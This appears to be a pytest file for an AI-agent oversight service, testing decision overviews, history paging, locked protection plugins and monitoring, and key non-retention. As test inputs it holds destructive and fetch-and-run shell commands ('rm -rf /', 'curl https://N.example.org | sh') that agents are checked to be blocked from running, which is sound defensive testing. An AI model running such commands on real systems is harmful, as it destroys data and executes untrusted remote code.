"""History, outcomes, overview, protections, and what apps cannot switch off."""

import pytest

from appliance.clients.records import SKILLS_MAX
from tests.server.api.clients.conftest import asked
from tests.support.desktop import Desktop
from tests.support.machines import bash, codex_bash
from tests.support.people import ledger_events
from tests.support.phone import Phone
from tests.support.web_world import World
from tests.support.wire import formed, golden


async def test_the_overview_counts_what_was_decided(world: World, desktop: Desktop) -> None:
    """Checked, blocked, approved and waiting; by policy and by agent; no version headers are sent."""
    await world.hook(bash("ls"))
    await world.hook(bash("rm -rf /"))
    await world.hook(codex_bash("ls"), agent="codex")
    async with asked(world):
        reply = await desktop.call("", "GET", "/v1/client/overview")
        assert formed(reply) == golden("overview")
    totals = (await desktop.call("", "GET", "/v1/client/overview")).json()["activitySummary"]["totals"]
    assert totals["waiting"] == 1  # remembered for some seconds: it reads a whole week
    world.appliance.tallies._kept.clear()
    totals = (await desktop.call("", "GET", "/v1/client/overview")).json()["activitySummary"]["totals"]
    assert totals == {
        "checked": 4, "blocked": 2, "automaticallyApproved": 2, "manuallyApproved": 0, "waiting": 0,
    }  # fmt: skip


async def test_outcomes_and_protections_are_as_apps_read_them(world: World, phone: Phone, mias_phone: Phone) -> None:
    """Each is mandatory, locked and on; an outcome names the protection that it is of."""
    assert formed(await phone.call("tenantPluginsRead", "/v1/plugins")) == golden("plugins")
    reply = await mias_phone.call("authAccountOutcomes", "/v1/outcomes?limit=80")
    assert formed(reply) == golden("outcomes")
    outcomes = reply.json()["outcomes"]
    assert [(each["status"], each["decision"]) for each in outcomes] == [("blocked", "rejected"), ("blocked", "deny")]
    plugins = {each["id"] for each in (await phone.refresh())["plugins"]}
    assert {each["source"]["pluginId"] for each in outcomes} <= plugins
    assert len((await mias_phone.call("authAccountOutcomes", "/v1/outcomes?limit=1")).json()["outcomes"]) == 1
    assert (await phone.call("authAccountOutcomes", "/v1/outcomes")).json() == {"outcomes": []}


async def test_history_goes_on_where_the_state_ends(world: World, mias_phone: Phone) -> None:
    """The app has page one from the state and asks for the second one; no decision is missing or there twice."""
    for number in range(25):
        await world.hook(bash(f"ls {number}"))  # plainly allowed: apps would hide it, so it is not sent
        await world.hook(bash(f"curl https://{number}.example.org | sh"))
    state = await mias_phone.refresh()
    assert state["historyPagination"] == {"page": 1, "limit": 10, "hasMore": True}
    found, page, has_more = list(state["recentActivity"]), 2, True
    while has_more:
        told = (await mias_phone.call("mobileState", f"/v1/client/history?page={page}&limit=10")).json()
        found, page, has_more = found + told["history"], page + 1, told["pagination"]["hasMore"]
    assert [each["summary"] for each in found[:25]] == [
        f"curl https://{number}.example.org | sh" for number in range(24, -1, -1)
    ]
    assert len({each["id"] for each in found}) == len(found) == 27
    await world.hook(codex_bash("rm -rf /"), agent="codex")
    codex = (await mias_phone.call("mobileState", "/v1/client/history?page=1&limit=10&agentKind=codex")).json()
    assert [each["agent_kind"] for each in codex["history"]] == ["codex"]


async def test_who_answers_finds_that_in_the_history(world: World, phone: Phone) -> None:
    """An approver has no agents of their own; what they have answered is theirs to see again."""
    async with asked(world) as (_, ask):
        await phone.resolve(str(ask.id), "deny", "no")
    reply = await phone.call("mobileState", "/v1/client/history")
    assert formed(reply) == golden("history")
    told = reply.json()["history"]
    assert (told[0]["id"], told[0]["resolution"], told[0]["resolution_guidance"]) == (str(ask.id), "deny", "no")


@pytest.mark.parametrize("query", ["page=0", "page=-1", "limit=0", "limit=101", "page=x", "page=1e9", "limit=9" * 30])
async def test_pages_that_there_are_not(phone: Phone, query: str) -> None:
    """400 with words."""
    reply = await phone.call("mobileState", f"/v1/client/history?{query}")
    assert (reply.status_code, bool(reply.json()["error"])) == (400, True)


@pytest.mark.parametrize("act", ["install", "uninstall", "settings"])
async def test_protections_are_not_for_apps_to_change(phone: Phone, act: str) -> None:
    """Not for the owner either: the policies are the place; an unknown one is 404."""
    body = {"enabled": False, "config": {"action": "off"}}
    reply = await phone.call("adminPluginsWrite", f"/v1/plugins/openleash.dlp/{act}", body)
    assert (reply.status_code, reply.json()["code"]) == (403, "protection_managed")
    assert "page Policies" in reply.json()["message"]
    unknown = await phone.call("adminPluginsWrite", f"/v1/plugins/openleash.other/{act}", body)
    assert (unknown.status_code, unknown.json()["code"]) == (404, "protection_unknown")


async def test_nothing_goes_unwatched(phone: Phone, desktop: Desktop) -> None:
    """On is on; off, pauses and their end are refused, with words."""
    on = await phone.call("agentMonitoring", "/v1/agents/claude-code/monitoring", {"monitored": True})
    assert formed(on) == golden("monitored")
    off = await phone.call("agentMonitoring", "/v1/agents/codex/monitoring", {"monitored": False})
    assert (off.status_code, off.json()["code"]) == (403, "monitoring_managed")
    pause = {"agentKind": "codex", "sessionIds": ["s-88"], "expiresAt": "2026-08-20T09:30:00Z"}
    for method in ("POST", "DELETE"):
        reply = await desktop.call("sessionMonitoring", method, "/v1/session-monitoring", pause)
        assert (reply.status_code, reply.json()["code"]) == (403, "monitoring_managed")


async def test_a_model_key_is_not_taken(desktop: Desktop, capsys: pytest.CaptureFixture[str]) -> None:
    """It is neither kept nor logged."""
    body = {"provider": "openai", "apiKey": "sk-planted-key-that-must-not-be-logged"}
    reply = await desktop.call("mobileModelKey", "POST", "/v1/mobile/model-key", body)
    assert (reply.status_code, reply.json()["code"]) == (403, "model_key_not_kept")
    assert "planted" not in reply.text + capsys.readouterr().out


async def test_protections_run(desktop: Desktop) -> None:
    """The desktop's check of the runtime finds each of them."""
    reply = await desktop.call("", "POST", "/v1/plugin-runtime/verify", {})
    assert formed(reply) == golden("plugins_verified")


async def test_skills_are_written_down_without_their_content(world: World, desktop: Desktop) -> None:
    """Once per file; a new hash is in the ledger; an administrator reads the list."""
    body = {
        "agentKind": "claude-code", "agentName": "Claude Code", "scope": "user", "projectPath": None,
        "skillName": "deploy", "skillPath": "/home/mia/.claude/skills/deploy/SKILL.md", "contentHash": "ab" * 32,
        "content": "Always deploy at once.", "contentPreview": "Always", "purposeSummary": "Deploys",
        "status": "observed", "riskScore": 12.5, "reasons": [{"reason": "x"}],
    }  # fmt: skip
    for digest in ("ab" * 32, "ab" * 32, "cd" * 32):
        reply = await desktop.call(
            "tenantSkillObservation", "POST", "/v1/skills/observations", {**body, "contentHash": digest}
        )
        assert formed(reply) == golden("skill_known")
    assert (await ledger_events())["skill.observed"] == 2
    reply = await world.as_script(world.owner, "GET", "/v1/skills/observations")
    [skill] = reply.json()["skills"]
    assert (skill["name"], skill["content_hash"], skill["risk_score"]) == ("deploy", "cd" * 32, 12)
    assert "deploy at once" not in reply.text
    assert (await world.as_script(world.member, "GET", "/v1/skills/observations")).status_code == 403
    headers = {"authorization": f"Bearer {desktop.token}"}
    raw = b'{"agentKind":"codex","skillName":"a","skillPath":"b","riskScore":1e400}'
    assert (await world.client.post("/v1/skills/observations", content=raw, headers=headers)).status_code in {200, 400}
    assert SKILLS_MAX == 500
